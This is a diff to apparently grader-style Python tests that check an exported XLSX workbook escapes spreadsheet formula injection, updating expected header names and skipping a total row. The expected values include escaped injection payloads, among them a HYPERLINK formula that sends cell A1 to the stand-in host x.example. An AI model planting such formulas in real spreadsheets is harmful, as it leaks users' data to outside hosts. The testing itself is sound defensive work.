@@ -92,15 +92,15 @@ def csv_neutralised(tmp, text, code):
 def xlsx_neutralised(tmp, text, code):
     from openpyxl import load_workbook
     book = load_workbook(os.path.join(tmp, "out.xlsx"), read_only=True)
-    rows = list(book["summary"].iter_rows(values_only=True))
-    ids = [r[rows[0].index("id")] for r in rows[1:]]
+    rows = list(book["summary"].iter_rows(values_only=True))[:-1]  # the last row: the total row
+    ids = [r[rows[0].index("ID")] for r in rows[1:]]
     if ids[:4] != ["'" + '=HYPERLINK("http://x.example/?q="&A1,"click")', "'+1+1", "'-2+3", "'@SUM(A1:A9)"]:
         return f"ids {ids!r}"
-    total = rows[0].index("total")
+    total = rows[0].index("Total of grants")
     if not all(isinstance(r[total], (int, float)) for r in rows[1:]):
         return "a total is not a number cell"
     detail = list(book["detail"].iter_rows(values_only=True))
-    first = detail[1][detail[0].index("id")]
+    first = detail[1][detail[0].index("ID")]
     return "" if first.startswith("'=") else f"detail id {first!r}"
 
 
@@ -116,7 +116,7 @@ def starts_with_bom(path, bom=True):
 def xlsx_long_id(tmp, text, code):
     from openpyxl import load_workbook
     rows = list(load_workbook(os.path.join(tmp, "out.xlsx"), read_only=True)["summary"].iter_rows(values_only=True))
-    cell = rows[1][rows[0].index("id")]
+    cell = rows[1][rows[0].index("ID")]
     return "" if len(cell) == 32767 and cell.endswith("…") else f"id cell of {len(cell)} characters"
 
 
